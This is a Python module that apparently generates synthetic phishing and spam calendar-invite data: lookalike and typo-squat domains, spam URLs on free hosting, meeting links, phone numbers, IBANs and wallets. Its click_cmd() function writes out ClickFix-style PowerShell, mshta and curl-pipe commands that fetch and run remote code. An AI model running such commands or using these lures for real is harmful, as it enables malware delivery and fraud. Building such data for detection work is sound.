# -*- coding: utf-8 -*-
"""Shared generators: domains, identities, links, phone numbers, codes."""
import datetime as dt
from . import core, i18n, ics
from .core import pick, chance, hexs, digits, uuid4

W1 = ['nord', 'sol', 'alpha', 'vista', 'terra', 'nova', 'delta', 'orion', 'atlas', 'lumen', 'vertex', 'cobalt', 'ember',
      'granite', 'harbor', 'summit', 'willow', 'crest', 'pioneer', 'meridian', 'aurora', 'zenith', 'quartz', 'falcon',
      'cedar', 'maple', 'birch', 'linden', 'silver', 'blue', 'green', 'west', 'east', 'stone', 'river', 'oak']
W2 = ['tech', 'logistics', 'consult', 'group', 'partners', 'trade', 'systems', 'labs', 'media', 'works', 'solutions',
      'medical', 'legal', 'design', 'foods', 'energy', 'capital', 'supply', 'industries', 'engineering', 'print',
      'textiles', 'pharma', 'motors', 'packaging', 'electric', 'builders', 'optics']
TLDS = {'en': ['com', 'com', 'co.uk', 'net', 'com.au', 'ca', 'io', 'us', 'com'], 'de': ['de', 'de', 'at', 'ch', 'de'],
        'fr': ['fr', 'fr', 'be'], 'es': ['es', 'es', 'com.mx'], 'it': ['it'], 'pt': ['pt', 'com.br'], 'nl': ['nl', 'be'],
        'pl': ['pl'], 'ru': ['ru', 'ru', 'kz'], 'el': ['gr', 'com.cy'], 'ar': ['ae', 'sa', 'com.eg', 'com', 'qa'],
        'he': ['co.il'], 'zh': ['cn', 'com.cn', 'com.hk'], 'zh-TW': ['com.tw', 'tw'], 'ja': ['co.jp', 'jp'],
        'ko': ['co.kr', 'kr'], 'hi': ['in', 'co.in'], 'th': ['co.th', 'in.th']}
SPAM_TLDS = ['xyz', 'top', 'online', 'site', 'shop', 'click', 'live', 'icu', 'buzz', 'sbs', 'cfd', 'store', 'info',
             'co', 'com', 'net', 'cyou', 'life', 'today', 'pro']


def org_domain(lang):
    w1, w2 = pick(W1), pick(W2)
    sep = pick(['', '-', ''])
    return '%s%s%s.%s' % (w1, sep, w2, pick(TLDS.get(lang, ['com'])))


def org_title(domain):
    base = domain.split('.')[0]
    for w in W2:
        if base.endswith(w) and base != w and '-' not in base:
            base = base[:-len(w)] + '-' + w
    parts = [p.capitalize() for p in base.split('-')]
    suffix = {'de': ' GmbH', 'at': ' GmbH', 'ch': ' AG', 'fr': ' SAS', 'it': ' S.r.l.', 'es': ' S.L.', 'nl': ' B.V.',
              'pl': ' Sp. z o.o.', 'uk': ' Ltd', 'com': ' Inc.', 'br': ' Ltda.', 'jp': ' 株式会社', 'ru': ' ООО'}.get(
        domain.split('.')[-1], '')
    if suffix == ' 株式会社':
        suffix = ' Co., Ltd.'
    if suffix == ' ООО':
        suffix = ''
    return ' '.join(parts) + (suffix if chance(0.6) else '')


def spam_domain():
    w = pick(['secure', 'verify', 'support', 'billing', 'notice', 'center', 'portal', 'online', 'account', 'help',
              'alerts', 'service', 'review', 'mail', 'app', 'docs', 'auth', 'login', 'info', 'update', 'cloud', 'hub'])
    return '%s%s%s.%s' % (core.alnum(core.rng.randint(4, 9), 'abcdefghijklmnopqrstuvwxyz'), pick(['-', '', '']), w,
                          pick(SPAM_TLDS))


def lookalike_brand(brand):
    b = brand.lower().replace(' ', '').replace('.', '')
    w = pick(['secure', 'verify', 'support', 'billing', 'notice', 'center', 'portal', 'online', 'account', 'help',
              'alerts', 'service', 'review', 'notify', 'docs', 'auth', 'login', 'team', 'esign', 'track', 'pay'])
    pat = pick(['%s-%s', '%s%s', '%s-%s', '%s-%s-%d'])
    if pat.endswith('%d'):
        core_ = pat % (b, w, core.rng.randint(1, 99))
    elif chance(0.5):
        core_ = pat % (b, w)
    else:
        core_ = pat % (w, b)
    return core_ + '.' + pick(['com', 'net', 'co', 'info', 'online', 'app', 'support', 'us', 'top', 'live'])


def lookalike_of(domain):
    """typo-squat of an existing (fictional) domain"""
    name, _, tld = domain.partition('.')
    ops = []
    if 'm' in name:
        ops.append(lambda: name.replace('m', 'rn', 1) + '.' + tld)
    if 'l' in name:
        ops.append(lambda: name.replace('l', '1', 1) + '.' + tld)
    if 'o' in name:
        ops.append(lambda: name.replace('o', '0', 1) + '.' + tld)
    if len(name) > 5:
        i = core.rng.randint(1, len(name) - 2)
        ops.append(lambda: name[:i] + name[i + 1] + name[i] + name[i + 2:] + '.' + tld)
        ops.append(lambda: name[:i] + name[i] + name[i:] + '.' + tld)
    ops.append(lambda: name + '.' + pick(['co', 'net', 'org', 'com.co', 'us', 'cc']))
    ops.append(lambda: name + pick(['-inc', '-group', '-llc', 'hq', '-global']) + '.' + tld)
    if '-' in name:
        ops.append(lambda: name.replace('-', '', 1) + '.' + tld)
    else:
        ops.append(lambda: name[:len(name) // 2] + '-' + name[len(name) // 2:] + '.' + tld)
    for _ in range(5):
        d = pick(ops)()
        if d != domain:
            return d
    return name + '-mail.' + tld


def email_for(p, domain, style=None):
    return '%s@%s' % (i18n.local_part(p, style), domain)


def free_email(p, domain):
    lp = i18n.local_part(p, pick(['f.l', 'fl_', 'f.lN', 'f_l', 'l.f']))
    if chance(0.4):
        lp += digits(core.rng.randint(2, 4))
    return '%s@%s' % (lp, domain)


def random_victims(n, lang_pool=None):
    """Random unrelated addresses (for mass invitations)."""
    out = []
    doms = ['example.com', 'example.net', 'example.org']
    for _ in range(n):
        lang = pick(lang_pool or list(i18n.LANG))
        p = i18n.person(lang)
        r = core.rng.random()
        if r < 0.35:
            d = pick(i18n.LANG[lang]['free'])
        elif r < 0.6:
            d = pick(i18n.LANG[lang]['rdomains'])
        elif r < 0.8:
            d = org_domain(lang)
        else:
            d = pick(doms)
        st = pick(['f.l', 'fl', 'f', 'fl_', 'f.lN', 'l.f'])
        out.append((p['name'] if chance(0.3) else '', '%s@%s' % (i18n.local_part(p, st), d)))
    seen, uniq = set(), []
    for n_, e in out:
        if e not in seen:
            seen.add(e)
            uniq.append((n_, e))
    return uniq


# ------------------------------------------------------------------ links
HOSTING = ['https://{a}.web.app/{p}', 'https://{a}.pages.dev/{p}', 'https://storage.googleapis.com/{a}/{p}.html',
           'https://{a}.blob.core.windows.net/$web/{p}.html', 'https://sites.google.com/view/{a}/{p}',
           'https://{a}.ipfs.dweb.link/', 'https://pub-{h}.r2.dev/{p}.html', 'https://{a}.weebly.com/',
           'https://{a}.wixsite.com/{p}', 'https://forms.office.com/r/{m}', 'https://docs.google.com/forms/d/e/{m}/viewform',
           'https://{a}.firebaseapp.com/{p}', 'https://{a}.netlify.app/', 'https://{a}.glitch.me/',
           'https://{a}-my.sharepoint.com/:b:/g/personal/{u}/{m}?e={e}', 'https://www.canva.com/design/{M}/view',
           'https://{a}.notion.site/{p}-{h}']
SHORT = ['https://bit.ly/{s}', 'https://tinyurl.com/{s}', 'https://is.gd/{s}', 'https://rb.gy/{s}',
         'https://cutt.ly/{s}', 'https://t.ly/{s}']


def _fmt(t):
    return t.format(a=core.alnum(core.rng.randint(6, 14), 'abcdefghijklmnopqrstuvwxyz0123456789'),
                    p=pick(['index', 'login', 'verify', 'secure', 'auth', 'doc', 'view', 'claim', 'portal', 'start']),
                    h=hexs(16), m=core.mixed(core.rng.randint(20, 40)), M=core.ALNUM(11),
                    u=core.alnum(6) + '_' + core.alnum(8) + '_com', e=core.mixed(6), s=core.mixed(core.rng.randint(6, 8)))


def spam_url(kind='generic', brand=None):
    r = core.rng.random()
    if kind == 'retail':
        if r < 0.6:
            b = (brand or pick(['rayban', 'mk', 'ugg', 'pandora', 'nike', 'shop'])).lower().replace(' ', '').replace('-', '')
            return 'http%s://www.%s%s.%s/%s' % (pick(['', 's']), b, pick(['outlet', 'sale', 'deals', 'store', 'club', 'shop']),
                                                 pick(['top', 'shop', 'store', 'online', 'com', 'xyz', 'us.com']),
                                                 pick(['', '?id=' + digits(6), 'index.html', 'sale/' + digits(4)]))
        return _fmt(pick(SHORT))
    if r < 0.35:
        dom = lookalike_brand(brand) if brand else spam_domain()
        path = pick(['', 'login', 'verify?id=' + core.mixed(10), 's/' + core.mixed(8), 'track/' + core.ALNUM(10),
                     'auth/' + uuid4(), 'pay?ref=' + digits(8), 'claim/' + core.mixed(6), '#' + core.mixed(12)])
        return 'https://%s%s/%s' % (pick(['', 'www.', 'secure.', 'portal.', 'app.']), dom, path)
    if r < 0.75:
        return _fmt(pick(HOSTING))
    if r < 0.9:
        return _fmt(pick(SHORT))
    inner = 'https://%s/%s' % (spam_domain(), core.mixed(8))
    return pick(['https://www.google.com/url?q=%s&sa=D&source=calendar&ust=%s&usg=%s' % (inner, digits(16), core.mixed(28)),
                 'https://nam12.safelinks.protection.outlook.com/?url=%s&data=05%%7C02%%7C%s&reserved=0' % (inner.replace(':', '%3A').replace('/', '%2F'), core.mixed(30)),
                 'https://t.co/%s' % core.mixed(10)])


def doc_link(client, domain, lang='en', fname=None):
    fname = fname or pick(['Q3_Review', 'Budget_2025', 'Proposal_v2', 'Notes', 'Agenda', 'Roadmap', 'Draft', 'Contract_redline'])
    if client == 'google' or (client not in ('outlook', 'nextcloud', 'zimbra', 'sogo') and chance(0.4)):
        return 'https://docs.google.com/%s/d/%s/edit?usp=sharing' % (pick(['document', 'spreadsheets', 'presentation']),
                                                                     core.mixed(44).replace('+', '-'))
    if client == 'outlook' or chance(0.4):
        t = domain.split('.')[0].replace('-', '')
        return 'https://%s-my.sharepoint.com/:%s:/g/personal/%s_%s/%s?e=%s' % (
            t, pick(['w', 'x', 'p', 'b', 'f']), core.alnum(8), domain.replace('.', '_').replace('-', ''), core.mixed(46), core.mixed(6))
    if client in ('nextcloud', 'sogo', 'zimbra') or chance(0.5):
        return 'https://cloud.%s/s/%s' % (core.org_domain(domain), core.mixed(15))
    return 'https://www.dropbox.com/scl/fi/%s/%s.pdf?rlkey=%s&dl=0' % (core.alnum(24), fname, core.alnum(25))


LINK_PATHS = {
    'it': [('status.', 'incidents/' + 'maint'), ('selfservice.', ''), ('portal.', 'it/password'), ('intranet.', 'it/mfa'),
           ('servicedesk.', 'change/CHG')],
    'travel': [('www.', 'manage-booking'), ('www.', 'trips/{c}'), ('m.', 'b/{c}')],
    'appointment': [('www.', 'appointments/{c}'), ('booking.', 'manage/{c}'), ('', 'termin/{c}')],
    'support': [('support.', 'case/{c}'), ('help.', 'tickets/{c}')],
    'list': [('wiki.', 'Meetings/Agenda'), ('www.', 'events/{n}'), ('', 'community/calls'), ('docs.', 'wg/notes')],
    'webinar': [('events.', 'webinar/{n}'), ('www.', 'resources/slides-{n}'), ('go.', 'agenda-{n}')],
    'default': [('intranet.', 'wiki/Meetings'), ('www.', 'info'), ('board.', 'b/{c}'), ('portal.', 'projects/{n}')],
}


def org_link(domain, kind='default'):
    host, path = pick(LINK_PATHS.get(kind, LINK_PATHS['default']))
    path = path.replace('{c}', core.ALNUM(8)).replace('{n}', digits(4))
    if kind == 'it' and path.endswith('CHG'):
        path += digits(7)
    return 'https://%s%s/%s' % (host, core.org_domain(domain), path)


def teams_link():
    return ('https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%22%s'
            '%%22%%2c%%22Oid%%22%%3a%%22%s%%22%%7d' % (core.mixed(48), uuid4(), uuid4()))


def meet_code():
    a = 'abcdefghijklmnopqrstuvwxyz'
    return '%s-%s-%s' % (core.alnum(3, a), core.alnum(4, a), core.alnum(3, a))


def zoom_link():
    return 'https://%s.zoom.us/j/%s?pwd=%s' % (pick(['us02web', 'us04web', 'us05web', 'us06web', 'zoom']), digits(11), core.mixed(32))


def join_link(client):
    if client == 'google':
        return 'https://meet.google.com/' + meet_code()
    if client == 'outlook':
        return teams_link()
    return pick([zoom_link(), teams_link(), 'https://meet.jit.si/' + core.mixed(14), zoom_link(),
                 'https://%s.webex.com/meet/%s' % (core.alnum(6), core.alnum(8))])


# ------------------------------------------------------------------ numbers
CC = {'en': '+1', 'de': '+49', 'fr': '+33', 'es': '+34', 'it': '+39', 'pt': '+351', 'nl': '+31', 'pl': '+48',
      'ru': '+7', 'el': '+30', 'ar': '+971', 'he': '+972', 'zh': '+86', 'zh-TW': '+886', 'ja': '+81', 'ko': '+82',
      'hi': '+91', 'th': '+66'}


def phone(lang, tollfree=False, tz=None):
    if lang == 'en':
        if tz in ('Europe/London', 'Europe/Dublin'):
            return pick(['+44 20 7946 0%03d', '020 7946 0%03d', '+44 161 496 0%03d']) % core.rng.randint(0, 999)
        if tz == 'Australia/Sydney':
            return '+61 2 5550 %04d' % core.rng.randint(0, 9999)
        area = pick(['800', '833', '844', '855', '866', '877', '888']) if tollfree else pick(
            ['212', '312', '415', '206', '617', '303', '512', '404', '713', '646', '503'])
        return pick(['+1 (%s) 555-01%02d', '+1-%s-555-01%02d', '%s-555-01%02d', '(%s) 555-01%02d']) % (area, core.rng.randint(0, 99))
    cc = CC.get(lang, '+1')
    if lang == 'ja':
        return pick(['0120-%03d-%03d' % (core.rng.randint(100, 999), core.rng.randint(100, 999)),
                     '03-%04d-%04d' % (core.rng.randint(1000, 9999), core.rng.randint(1000, 9999))])
    if lang == 'de':
        return pick(['0800 %s %s' % (digits(3), digits(4)) if tollfree else '030 %s %s' % (digits(4), digits(4)),
                     '+49 %s %s' % (pick(['30', '89', '40', '221', '69']), digits(7))])
    return '%s %s %s %s' % (cc, digits(core.rng.randint(2, 3)), digits(3), digits(4))


def messenger(lang):
    if lang in ('zh-TW', 'th', 'ja'):
        return pick(['LINE ID: %s' % core.alnum(8), 'https://line.me/ti/p/~%s' % core.alnum(10)])
    if lang == 'ko':
        return 'https://open.kakao.com/o/%s' % core.mixed(8)
    if lang == 'zh':
        return pick(['微信: %s' % core.alnum(10), 'https://t.me/%s' % core.alnum(10)])
    cc = CC.get(lang, '+1').lstrip('+')
    return pick(['https://wa.me/%s%s' % (cc, digits(9 if cc != '1' else 10)), 'https://t.me/%s_%s' % (core.alnum(7, 'abcdefghijklmnopqrstuvwxyz'), pick(['hr', 'job', 'work', 'team', 'support'])),
                 'WhatsApp +%s %s %s' % (cc, digits(3), digits(6))])


def wallet():
    return 'bc1q' + core.alnum(38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')


def iban(lang):
    cc = {'de': 'DE', 'fr': 'FR', 'es': 'ES', 'it': 'IT', 'pt': 'PT', 'nl': 'NL', 'pl': 'PL', 'el': 'GR'}.get(lang, pick(['GB', 'LT', 'IE', 'DE', 'PT']))
    ln = {'DE': 20, 'FR': 25, 'ES': 22, 'IT': 25, 'PT': 23, 'NL': 16, 'PL': 26, 'GR': 25, 'GB': 20, 'LT': 18, 'IE': 20}[cc]
    body = digits(ln)
    if cc in ('NL', 'GB', 'IE'):
        body = core.alnum(4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ') + digits(ln - 4)
    s = cc + digits(2) + body
    return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))


def code(n=6):
    return core.alnum(n, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')


def click_cmd():
    d = spam_domain()
    return pick(['powershell -w h -nop -c "iex(iwr https://%s/v.txt -UseBasicParsing)"' % d,
                 'mshta https://%s/verify.hta # I am not a robot - reCAPTCHA ID: %s' % (d, digits(4)),
                 'cmd /c curl -s https://%s/c | cmd' % d,
                 'powershell -ep bypass -c "irm %s/check | iex"' % d])
